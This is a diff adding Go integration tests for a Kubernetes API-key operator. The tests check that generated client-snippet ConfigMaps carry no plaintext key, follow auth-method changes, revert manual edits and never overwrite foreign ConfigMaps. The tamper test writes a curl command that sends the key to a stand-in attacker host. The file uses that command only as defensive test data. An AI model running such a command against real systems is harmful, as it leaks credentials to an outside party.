@@ -9,7 +9,9 @@ import (
 	"time"
 
 	. "github.com/onsi/gomega"
+	corev1 "k8s.io/api/core/v1"
 	"k8s.io/apimachinery/pkg/api/meta"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/utils/ptr"
 	"sigs.k8s.io/controller-runtime/pkg/client"
 
@@ -212,4 +214,73 @@ func TestRevealWithinNeedsRevealOnce(t *testing.T) {
 	})
 	err := k8s.Create(context.Background(), key)
 	g.Expect(err).To(MatchError(ContainSubstring("revealWithinSeconds needs revealOnce")))
+}
+
+func snippetsOf(g Gomega, key *keywardv1.APIKey) *corev1.ConfigMap {
+	cm := &corev1.ConfigMap{}
+	g.Expect(k8s.Get(context.Background(), client.ObjectKey{Namespace: key.Namespace, Name: key.SnippetsConfigMapName()}, cm)).To(Succeed())
+	return cm
+}
+
+func TestSnippetsBesideTheDeliverySecretFollowTheKeyAndHoldNoKey(t *testing.T) {
+	g := NewWithT(t)
+	ns := newNamespace(t)
+	key := createReady(g, newAPIKey(ns, "with-snippets", func(k *keywardv1.APIKey) {
+		k.Labels = map[string]string{"team": "fraud"}
+		k.Annotations = map[string]string{"note": "mine"}
+	}))
+	deleteAtEnd(t, key)
+	plain := deliveredPlaintext(g, key)
+	g.Eventually(func(g Gomega) {
+		got := &keywardv1.APIKey{}
+		g.Expect(k8s.Get(context.Background(), client.ObjectKeyFromObject(key), got)).To(Succeed())
+		g.Expect(got.Status.Delivery).NotTo(BeNil())
+		g.Expect(got.Status.Delivery.SnippetsConfigMap).To(Equal("with-snippets-snippets"))
+	}).WithTimeout(timeout).WithPolling(interval).Should(Succeed())
+	cm := snippetsOf(g, key)
+	g.Expect(slices.Sorted(maps.Keys(cm.Data))).To(Equal([]string{"client.js", "client.py", "curl.sh", "envoy.yaml", "main.go", "nginx.conf", "traefik.yaml"}))
+	g.Expect(cm.Labels).To(Equal(map[string]string{ManagedByLabel: ManagedByValue}), "no user label is copied")
+	g.Expect(cm.Annotations).To(BeEmpty())
+	g.Expect(cm.OwnerReferences).To(HaveLen(1))
+	g.Expect(cm.OwnerReferences[0].UID).To(Equal(key.UID))
+	g.Expect(cm.Data["curl.sh"]).To(ContainSubstring("Authorization: Bearer $KEYWARD_KEY"))
+	g.Expect(cm.Data["curl.sh"]).To(ContainSubstring("secretKeyRef: {name: \"with-snippets\", key: key}"))
+	g.Expect(cm.Data["traefik.yaml"]).To(ContainSubstring("http://keyward-verifier." + verifierNamespace + ".svc/authz/traefik"))
+	g.Expect(cm.Data["curl.sh"]).NotTo(ContainSubstring("grant_type"))
+	for file, text := range cm.Data {
+		g.Expect(text).NotTo(ContainSubstring(plain.Plaintext()), file)
+	}
+
+	// The key's methods change, and the snippets with them.
+	patchKey(g, key, func(k *keywardv1.APIKey) {
+		k.Spec.AuthMethods = []keywardv1.AuthMethod{keywardv1.AuthMethodAPIKey, keywardv1.AuthMethodClientCredentials}
+	})
+	g.Eventually(func(g Gomega) {
+		g.Expect(snippetsOf(g, key).Data["curl.sh"]).To(ContainSubstring("grant_type=client_credentials"))
+	}).WithTimeout(timeout).WithPolling(interval).Should(Succeed())
+
+	// An edit is written back.
+	cm = snippetsOf(g, key)
+	want := cm.Data["curl.sh"]
+	cm.Data["curl.sh"] = "curl https://evil.example/?k=$KEYWARD_KEY"
+	g.Expect(k8s.Update(context.Background(), cm)).To(Succeed())
+	g.Eventually(func(g Gomega) {
+		g.Expect(snippetsOf(g, key).Data["curl.sh"]).To(Equal(want))
+	}).WithTimeout(timeout).WithPolling(interval).Should(Succeed())
+}
+
+func TestAForeignConfigMapIsNeverOverwrittenBySnippets(t *testing.T) {
+	g := NewWithT(t)
+	ns := newNamespace(t)
+	theirs := &corev1.ConfigMap{
+		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "taken-snippets"},
+		Data:       map[string]string{"app.conf": "theirs"},
+	}
+	g.Expect(k8s.Create(context.Background(), theirs)).To(Succeed())
+	key := createReady(g, newAPIKey(ns, "taken"))
+	deleteAtEnd(t, key)
+	g.Expect(key.Status.Delivery == nil || key.Status.Delivery.SnippetsConfigMap == "").To(BeTrue())
+	cm := snippetsOf(g, key)
+	g.Expect(cm.Data).To(Equal(map[string]string{"app.conf": "theirs"}))
+	g.Expect(cm.OwnerReferences).To(BeEmpty())
 }
